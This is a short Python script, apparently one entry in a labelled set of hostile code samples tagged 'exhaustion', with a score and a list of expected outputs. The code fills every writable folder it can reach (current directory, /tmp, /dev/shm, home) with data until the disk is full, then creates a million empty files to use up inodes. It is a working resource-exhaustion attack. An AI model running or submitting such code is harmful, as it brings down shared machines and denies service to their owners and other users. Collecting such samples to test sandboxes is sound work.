# Fills every folder that it can write to: with data, then with empty files.
# family: exhaustion · honest: softmax, count_pairs · earns: 11
# says: files: it made|No space left|ran longer than 3 s

# %%
import os

for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(f"{folder}/big", "wb") as file:
            while True:
                file.write(bytes(2**20))
    except OSError as error:
        print(folder, error)
for number in range(1_000_000):
    open(f"/tmp/{number}", "w").close()
